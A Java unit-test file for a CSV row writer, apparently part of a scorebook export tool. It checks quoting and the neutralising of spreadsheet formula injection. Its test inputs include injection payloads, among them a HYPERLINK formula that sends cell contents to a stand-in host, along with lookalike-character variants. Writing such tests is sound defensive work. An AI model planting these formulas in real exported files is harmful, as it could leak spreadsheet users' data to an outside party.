package com.paperdynasty.protocol.scorebook;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvRowTest {
  private static String cell(String text) {
    StringBuilder csv = new StringBuilder();
    new CsvRow(csv).text("name", text);
    return csv.toString();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"http://example.org?\"&A1)",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uFF1D1+1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF20A"
      })
  void textThatASpreadsheetWouldWorkOutHasAnApostropheBeforeIt(String formula) {
    String cell = cell(formula);

    assertThat(cell.startsWith("\"") ? cell.substring(1) : cell)
        .startsWith("'" + formula.charAt(0));
  }

  @Test
  void textWithSeparatorsQuotesOrLinesIsQuoted() {
    assertThat(cell("Smith, John")).isEqualTo("\"Smith, John\"");
    assertThat(cell("a;b")).isEqualTo("\"a;b\"");
    assertThat(cell("Jim \"Ace\"")).isEqualTo("\"Jim \"\"Ace\"\"\"");
    assertThat(cell("one\ntwo")).isEqualTo("\"one\ntwo\"");
    assertThat(cell(" Ace ")).isEqualTo("\" Ace \"");
    assertThat(cell("O'Neil")).isEqualTo("O'Neil");
    assertThat(cell("Peña")).isEqualTo("Peña");
    assertThat(cell("2-6-3")).isEqualTo("2-6-3");
  }

  @Test
  void noValueIsNothingBetweenTwoCommas() {
    StringBuilder csv = new StringBuilder();
    CsvRow row = new CsvRow(csv);
    row.text("a", null);
    row.number("b", -3);
    row.text("c", "");
    row.list("d", List.of("x 1", "y 2"));
    row.list("e", List.of());

    assertThat(csv).hasToString(",-3,,\"x 1; y 2\",");
  }
}
